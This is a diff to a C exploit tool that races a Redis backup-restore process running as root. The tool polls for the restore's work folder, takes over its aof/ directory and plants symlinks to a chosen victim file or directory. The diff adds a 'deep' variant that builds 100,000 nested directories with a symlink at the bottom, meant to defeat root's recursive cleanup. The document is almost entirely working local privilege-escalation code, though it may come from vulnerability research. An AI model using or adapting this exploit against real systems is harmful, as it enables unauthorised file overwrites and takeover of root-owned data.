@@ -40,7 +40,7 @@
  *       replace it at once (rename of a prepared symlink) with a symlink to
  *       TARGET.
  *
- *   aof-build READY DATA plant|symlink|entry VICTIM_DIR VICTIM_FILE
+ *   aof-build READY DATA plant|symlink|entry|deep VICTIM_DIR VICTIM_FILE
  *       Poll the data dir for restore's work folder (redis-backup-restore-*)
  *       and its aof/ (where the private server rebuilds the AOF while Redis
  *       still runs), and get into aof/ the moment it is ours. There, probe
@@ -56,7 +56,10 @@
  *                  appendonlydir for a symlink to VICTIM_DIR;
  *         entry:   the same moment, exchange it for a directory of ours with
  *                  copies of its files and appendonly.aof.9.incr.aof, a
- *                  symlink to VICTIM_FILE.
+ *                  symlink to VICTIM_FILE;
+ *         deep:    at once, build a chain of DEEP_LEVELS nested directories
+ *                  in aof/ (what root removes once the AOF is placed), the
+ *                  deepest holding a symlink to VICTIM_FILE.
  *       Then say what became of aof/ (appendonlydir moved out, aof/ gone).
  */
 #define _GNU_SOURCE
@@ -548,10 +551,34 @@ static void probe_work_folder(const char *work, int aof)
     closedir(a);
 }
 
+/* Deeper than a removal that recurses once per level can go on a main
+ * thread's 8 MiB stack, or with one descriptor open per level. */
+#define DEEP_LEVELS 100000
+
+/* A chain of `levels` directories "d" below `at`, one descriptor open at a
+ * time; the deepest gets a symlink to `victim`. */
+static void build_deep(int at, long levels, const char *victim)
+{
+    int cur = dup(at);
+    for (long i = 0; i < levels; i++) {
+        if (mkdirat(cur, "d", 0755) != 0)
+            die("mkdir level");
+        int next = openat(cur, "d", O_RDONLY | O_DIRECTORY | O_NOFOLLOW | O_CLOEXEC);
+        if (next < 0)
+            die("open level");
+        close(cur);
+        cur = next;
+    }
+    if (symlinkat(victim, cur, "victim") != 0)
+        die("symlink at the bottom");
+    close(cur);
+}
+
 static int aof_build(char **a)
 {
     const char *variant = a[1], *victim_dir = a[2], *victim_file = a[3];
-    if (strcmp(variant, "plant") != 0 && strcmp(variant, "symlink") != 0 && strcmp(variant, "entry") != 0) {
+    if (strcmp(variant, "plant") != 0 && strcmp(variant, "symlink") != 0 && strcmp(variant, "entry") != 0
+        && strcmp(variant, "deep") != 0) {
         say("error: unknown aof-build variant %s", variant);
         return 2;
     }
@@ -584,6 +611,23 @@ static int aof_build(char **a)
     }
     say("entered %s, ours, after %ld polls", path, polls);
     probe_work_folder(work, aof);
+
+    if (strcmp(variant, "deep") == 0) {
+        say("building a tree %d directories deep in aof/", DEEP_LEVELS);
+        build_deep(aof, DEEP_LEVELS, victim_file);
+        struct stat st;
+        if (fstat(aof, &st) == 0 && st.st_nlink == 0)
+            say("aof/ was removed before the tree was built");
+        else
+            say("built a tree %d directories deep in aof/", DEEP_LEVELS);
+        for (;;) {
+            if (fstat(aof, &st) == 0 && st.st_nlink == 0) {
+                say("aof/ was removed");
+                idle_forever();
+            }
+            usleep(500);
+        }
+    }
 
     if (strcmp(variant, "plant") == 0) {
         struct planter p;
